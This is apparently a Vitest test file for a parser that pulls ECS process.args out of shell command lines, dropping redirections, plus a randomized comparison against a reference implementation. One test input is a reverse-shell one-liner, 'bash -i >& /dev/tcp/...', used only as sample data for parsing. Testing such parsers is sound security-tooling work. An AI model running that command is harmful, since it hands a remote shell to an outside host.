import { describe, expect, it } from 'vitest';
import { prng } from '../../../bench/support/generate-rules';
import { characterArgs, commandArgs } from './ecs';

describe('commandArgs (ECS process.args from a command line)', () => {
  it('keeps the words of the first simple command, quotes removed', () => {
    expect(commandArgs(`grep -r 'a b' "/etc" | wc -l`)).toEqual(['grep', '-r', 'a b', '/etc']);
  });

  it('leaves redirections out: operator, file descriptor and target', () => {
    expect(commandArgs('bash -i >& /dev/tcp/203.0.113.66/4444 0>&1')).toEqual(['bash', '-i']);
    expect(commandArgs('find / -name x 2>/dev/null')).toEqual(['find', '/', '-name', 'x']);
    expect(commandArgs('sort <in.txt -u >> out.txt')).toEqual(['sort', '-u']);
    expect(commandArgs('cat <<< "text" -n')).toEqual(['cat', '-n']);
    expect(commandArgs('echo a>b c')).toEqual(['echo', 'a', 'c']);
  });

  it('keeps quoted angle brackets as text', () => {
    expect(commandArgs(`echo '>' "a<b"`)).toEqual(['echo', '>', 'a<b']);
  });
});

describe('commandArgs, lines with and without quotes, escapes or redirections', () => {
  it('gives what the character-by-character definition gives', () => {
    const random = prng(20261207);
    const pieces = ['ls', '-la', ' ', '  ', '\t', '|', ';', '&', '\n', '\r', '/etc', 'é'];
    pieces.push('\u{1F600}', 'a=b', '"', "'", '\\', '<', '>', '2>', 'x', '--', '#');
    for (let i = 0; i < 20_000; i++) {
      let line = '';
      const length = Math.floor(random() * 12);
      for (let k = 0; k < length; k++) line += pieces[Math.floor(random() * pieces.length)];
      const max = i % 7 === 0 ? Math.floor(random() * 4) : 256;
      expect(commandArgs(line, max), JSON.stringify(line)).toEqual(characterArgs(line, max));
    }
  });
});
